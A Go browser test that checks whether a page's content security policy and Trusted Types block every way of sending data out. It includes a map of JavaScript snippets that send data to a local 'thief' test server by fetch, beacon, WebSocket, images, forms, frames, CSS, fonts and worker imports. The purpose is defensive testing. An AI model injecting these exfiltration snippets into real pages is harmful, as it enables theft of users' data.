package web_test

import (
	"fmt"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// A thief listens for what a page sends: HTTP requests, and connections on
// which nothing came.
type thief struct {
	*httptest.Server
	mu   sync.Mutex
	came []string
}

func startThief(t *testing.T) *thief {
	t.Helper()
	th := &thief{}
	th.Server = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		th.note(r.URL.Path[1:])
		w.Header().Set("Access-Control-Allow-Origin", "*")
		http.Error(w, "", http.StatusTeapot)
	}))
	th.Config.ConnState = func(_ net.Conn, s http.ConnState) {
		if s == http.StateNew {
			th.note("connection")
		}
	}
	th.Start()
	t.Cleanup(th.Close)
	return th
}

func (th *thief) note(what string) {
	th.mu.Lock()
	defer th.mu.Unlock()
	th.came = append(th.came, what)
}

func (th *thief) got() []string {
	th.mu.Lock()
	defer th.mu.Unlock()
	return slices.Clone(th.came)
}

// ways are ways out of a page, each with the name that the thief would see; %s
// is the thief's address.
var ways = map[string]string{
	"fetch":       `fetch("%s/fetch").catch(() => {})`,
	"no-cors":     `fetch("%s/no-cors", {mode: "no-cors", method: "POST", body: "key"}).catch(() => {})`,
	"xhr":         `const x = new XMLHttpRequest(); x.open("GET", "%s/xhr"); x.send()`,
	"websocket":   `new WebSocket("%s/websocket".replace("http", "ws"))`,
	"eventsource": `new EventSource("%s/eventsource")`,
	"beacon":      `navigator.sendBeacon("%s/beacon", "key")`,
	"image":       `new Image().src = "%s/image"`,
	"form":        `const n = document.createElement("iframe"); n.name = "n"; const f = document.createElement("form"); f.action = "%s/form"; f.target = "n"; document.body.append(n, f); f.submit()`,
	"script":      `const s = document.createElement("script"); try { s.src = "%s/script" } catch {}; document.head.append(s)`,
	"import":      `import("%s/import").catch(() => {})`,
	"style":       `const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "%s/style"; document.head.append(l)`,
	"css":         `document.body.style.backgroundImage = "url(%s/css)"`,
	"font":        `new FontFace("f", "url(%s/font)").load().catch(() => {})`,
	"frame":       `const i = document.createElement("iframe"); i.src = "%s/frame"; document.body.append(i)`,
	"video":       `const v = document.createElement("video"); v.src = "%s/video"; document.body.append(v)`,
	"object":      `const o = document.createElement("object"); o.data = "%s/object"; document.body.append(o)`,
	"manifest":    `const m = document.createElement("link"); m.rel = "preload"; m.as = "fetch"; m.href = "%s/manifest"; document.head.append(m)`,
	"prefetch":    `const p = document.createElement("link"); p.rel = "prefetch"; p.href = "%s/prefetch"; document.head.append(p)`,
	"markup":      `document.body.insertAdjacentHTML("beforeend", "<img src='%s/markup'>")`,
}

// workerWays are those of a worker, which has no document.
var workerWays = []string{"fetch", "no-cors", "xhr", "websocket", "eventsource", "import", "font"}

func script(names []string, address string) string {
	out := ""
	for _, n := range names {
		out += "try { " + strings.ReplaceAll(fmt.Sprintf("(() => { "+ways[n]+" })()", address), "\n", "") + " } catch {}\n"
	}
	return out
}

// tryAll takes every way out, from the page and from a worker made as the page
// makes its own. policied says whether Trusted Types ask for a policy.
func tryAll(b *tab, address string, navigation string) {
	b.t.Helper()
	names := slices.DeleteFunc(slices.Sorted(maps.Keys(ways)), navigates)
	worker := `addEventListener("securitypolicyviolation", (e) => postMessage(e.effectiveDirective + " " + e.blockedURI));
		` + script(workerWays, address+"/worker") + `try { importScripts("` + address + `/worker/importScripts") } catch {}; postMessage("done")`
	eval[bool](b, `new Promise((done) => {
		window.blocked = [];
		addEventListener("securitypolicyviolation", (e) => blocked.push(e.effectiveDirective + " " + e.blockedURI));
		const url = URL.createObjectURL(new Blob([`+"`"+worker+"`"+`]));
		const w = new Worker(typeof scripts === "undefined" ? url : scripts.createScriptURL(url));
		w.onmessage = ({ data }) => data === "done" ? done(true) : blocked.push(data);
	})`)
	eval[bool](b, script(names, address)+"true")
	eval[bool](b, script([]string{"form", "frame"}, navigation)+"true")
}

// navigates reports whether a way loads a document into a frame. For these
// Chromium opens a connection before it looks at the policy, on which it then
// sends nothing.
func navigates(way string) bool { return way == "form" || way == "frame" }

// unprotected takes all ways out of a page without a policy, and waits until
// all of them have arrived.
func unprotected(t *testing.T, l *lab) {
	t.Helper()
	open := startThief(t)
	bare := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<!doctype html><title>no policy</title>")
	}))
	t.Cleanup(bare.Close)
	b := l.tab(t)
	b.run(navigate(bare.URL))
	tryAll(b, open.URL, open.URL)
	want := append(slices.Collect(maps.Keys(ways)), "connection", "worker/importScripts")
	for _, n := range workerWays {
		want = append(want, "worker/"+n)
	}
	for deadline := time.Now().Add(time.Minute); ; time.Sleep(20 * time.Millisecond) {
		got := open.got()
		missing := slices.DeleteFunc(slices.Clone(want), func(w string) bool { return slices.Contains(got, w) })
		if len(missing) == 0 {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("without a policy there never came %v; came %v", missing, got)
		}
	}
}

// policy: nothing gets out of the page. The same attempts do get out of a page
// without the policy, or the test would prove nothing.
func policy(t *testing.T, l *lab) {
	unprotected(t, l)
	closed, frames := startThief(t), startThief(t)
	b := l.open(t)
	tryAll(b, closed.URL, frames.URL)
	// The browser tells of each way that it closed. It calls three of them
	// (script, object, markup) by no address: Trusted Types stop them; and of a
	// frame the server alone.
	for n := range ways {
		if !slices.Contains([]string{"script", "object", "markup", "frame"}, n) {
			b.until(`blocked.some((s) => /\/` + n + `\??$/.test(s) && !s.includes("/worker/"))`)
		}
	}
	b.until(`blocked.some((s) => s.startsWith("frame-src"))`)
	b.until(`blocked.filter((s) => s.startsWith("require-trusted-types-for")).length >= 3`)
	for _, n := range workerWays {
		b.until(`blocked.some((s) => s.endsWith("/worker/` + n + `"))`)
	}
	// ... and the page lives.
	b.paste("ssh-rsa")
	if got := closed.got(); len(got) > 0 {
		t.Errorf("out of the page came %v", got)
	}
	if got := slices.DeleteFunc(frames.got(), func(s string) bool { return s == "connection" }); len(got) > 0 {
		t.Errorf("out of the page came %v", got)
	}
	if eval[bool](b, `"RTCPeerConnection" in globalThis || "webkitRTCPeerConnection" in globalThis`) {
		t.Error("the page has WebRTC")
	}
	own := eval[int](b, `performance.getEntriesByType("resource").filter((e) => !/^(blob|data):/.test(e.name) && e.responseStatus).length`)
	if own != 0 {
		t.Errorf("%d requests to the page's own server", own)
	}
}
